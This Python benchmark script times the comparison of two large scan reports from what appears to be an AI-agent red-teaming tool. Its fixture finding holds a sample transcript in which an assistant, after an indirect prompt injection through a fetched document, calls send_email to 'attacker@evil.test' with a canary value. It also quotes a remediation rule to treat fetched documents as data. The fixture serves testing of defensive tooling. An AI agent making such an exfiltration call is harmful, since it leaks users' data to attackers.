"""Benchmark: compare two 10,000-finding reports (target: under 1 s, PRODUCT.md issue 6).

A large agent fleet merged from shards can carry thousands of findings, and the comparison runs
on every pull request, so it must stay linear. The baseline and current reports share 9,500
findings; 500 are fixed (their probes resisted) and 500 are new. Timed separately: the
comparison itself (the target), reading both reports from JSON, and rendering the Markdown
diff, so a slowdown points at its stage. Exits non-zero when the comparison misses the target.

Run: ``.venv/bin/python bench/bench_compare.py`` (``make bench`` runs it too).
"""

from __future__ import annotations

import sys
import time
from collections.abc import Callable
from typing import TypeVar

from probegate.baseline import compare, parse_report
from probegate.canonical import pretty_bytes
from probegate.models.report import (
    Authority,
    Completeness,
    Engine,
    Finding,
    ProbeResult,
    ScanReport,
    SourceLocation,
    TargetInfo,
    finding_fp,
)
from probegate.models.taxonomy import ASI_IDS, Severity
from probegate.models.transcript import ToolCall, Transcript, Turn
from probegate.models.verdict import Evidence
from probegate.reports.diff_markdown import render_diff

FINDINGS = 10_000
CHURN = 500
TARGET_SECONDS = 1.0
REPEATS = 5

T = TypeVar("T")
SEVERITIES = (Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW)


def _template() -> Finding:
    transcript = Transcript(
        turns=[
            Turn(role="user", content="Summarise https://docs.example.test/q3.txt"),
            Turn(
                role="assistant",
                content="Sure, sending it now.",
                tool_calls=[
                    ToolCall(
                        id="call_0",
                        name="send_email",
                        arguments={"to": "attacker@evil.test", "body": "${CANARY_1}"},
                        result="sent",
                    )
                ],
            ),
        ],
        tools_offered=["send_email", "fetch_document"],
    )
    evidence = Evidence(
        category="security.data_exfiltration",
        severity=Severity.HIGH,
        path="turns.1.tool_calls.0.arguments.body",
        start=0,
        end=11,
        score=1.0,
        fp="0" * 32,
        subject="${CANARY_1}",
        detector="canary_leak",
    )
    return Finding(
        id="F-template",
        probe_id="template",
        asi="ASI01",
        mitre_atlas=["AML.T0051.001"],
        csa_category="agent-goal-and-instruction-manipulation",
        severity=Severity.HIGH,
        attempt_count=3,
        success=True,
        confidence=1.0,
        summary="The agent emailed a canary to an attacker address.",
        trigger_prompt="Summarise https://docs.example.test/q3.txt",
        pov_reliability=0.4385,
        created_at="2026-01-01T00:00:00Z",
        fp="0" * 32,
        name="Indirect injection via fetched document",
        owasp_llm=["LLM01"],
        channel="document",
        successes=3,
        aivss_severity=8.1,
        remediation="Treat fetched documents as data, never as instructions.",
        evidence=[evidence],
        location=SourceLocation(path="probegate.yml", line=1),
        transcript=transcript,
    )


def _report(indexes: range, resisted: range, template: Finding) -> ScanReport:
    findings = []
    for i in indexes:
        asi = ASI_IDS[i % len(ASI_IDS)]
        probe_id = f"{asi.lower()}.bench-{i}.v1"
        fp = finding_fp(probe_id)
        findings.append(
            template.model_copy(
                update={
                    "id": f"F-{fp[:12]}",
                    "probe_id": probe_id,
                    "asi": asi,
                    "fp": fp,
                    "severity": SEVERITIES[i % len(SEVERITIES)],
                }
            )
        )
    results = [
        ProbeResult(
            probe_id=f.probe_id,
            name=f.name,
            asi=f.asi,
            severity=f.severity,
            channel=f.channel,
            outcome="vulnerable",
            attempts=3,
            vulnerable=3,
        )
        for f in findings
    ] + [
        ProbeResult(
            probe_id=f"{ASI_IDS[i % len(ASI_IDS)].lower()}.bench-{i}.v1",
            name="resisted",
            asi=ASI_IDS[i % len(ASI_IDS)],
            severity=Severity.HIGH,
            channel="document",
            outcome="resisted",
            attempts=3,
            resisted=3,
        )
        for i in resisted
    ]
    n = len(results)
    return ScanReport(
        aivss=20,
        aivss_formula_version="bench",
        asi_scores=dict.fromkeys(ASI_IDS, 20.0),
        band="CRITICAL",
        completeness=Completeness(
            agents_planned=n,
            agents_completed=n,
            agents_cut_short=0,
            turns_used=n,
            turns_planned=n,
            pct=100.0,
        ),
        coverage={},
        coverage_grade="A",
        created_at="2026-01-01T00:00:00Z",
        duration_seconds=1.0,
        engine=Engine(),
        evaluation_mode="real",
        findings=findings,
        findings_summary={},
        mode="full",
        mode_authoritative=True,
        package_version="bench",
        probe_library_version="bench",
        scan_id="pg-bench",
        scoring_valid=True,
        stopped_reason="completed",
        sub_scores={},
        target=TargetInfo(mode="demo", ref="demo", definition=SourceLocation(path="probegate.yml")),
        tier="T4",
        tokens_total=0,
        undertested=[],
        authority=Authority(authoritative=True),
        results=results,
        unjudged=[],
        not_applicable=[],
        seed=0,
    )


def _best(fn: Callable[[], T]) -> tuple[float, T]:
    """Best of REPEATS wall-clock runs: the figure least disturbed by the machine."""
    best = float("inf")
    value: T | None = None
    for _ in range(REPEATS):
        start = time.perf_counter()
        value = fn()
        best = min(best, time.perf_counter() - start)
    assert value is not None
    return best, value


def main() -> None:
    template = _template()
    baseline = _report(range(FINDINGS), range(0), template)
    # 500 fixed (resisted now), 500 new, 9,500 persisting.
    current = _report(range(CHURN, FINDINGS + CHURN), range(CHURN), template)
    assert len(baseline.findings) == len(current.findings) == FINDINGS

    seconds, comparison = _best(lambda: compare(baseline, current))
    assert len(comparison.new) == CHURN and len(comparison.fixed) == CHURN
    assert len(comparison.persisting) == FINDINGS - CHURN

    raw_base = pretty_bytes(baseline.to_dict())
    raw_cur = pretty_bytes(current.to_dict())
    load_seconds, _ = _best(
        lambda: (
            parse_report(raw_base, source="baseline"),
            parse_report(raw_cur, source="current"),
        )
    )
    render_seconds, _ = _best(lambda: render_diff(comparison))

    status = "OK" if seconds < TARGET_SECONDS else "SLOW"
    print(
        f"bench_compare: compare {FINDINGS:,} vs {FINDINGS:,} findings: {seconds * 1000:.1f} ms "
        f"(target < {TARGET_SECONDS * 1000:.0f} ms) {status}"
    )
    print(
        f"bench_compare: load both reports from JSON ({(len(raw_base) + len(raw_cur)) / 1e6:.1f}"
        f" MB): {load_seconds * 1000:.1f} ms; render Markdown diff: {render_seconds * 1000:.1f} ms"
    )
    if status != "OK":
        sys.exit(1)


if __name__ == "__main__":
    main()
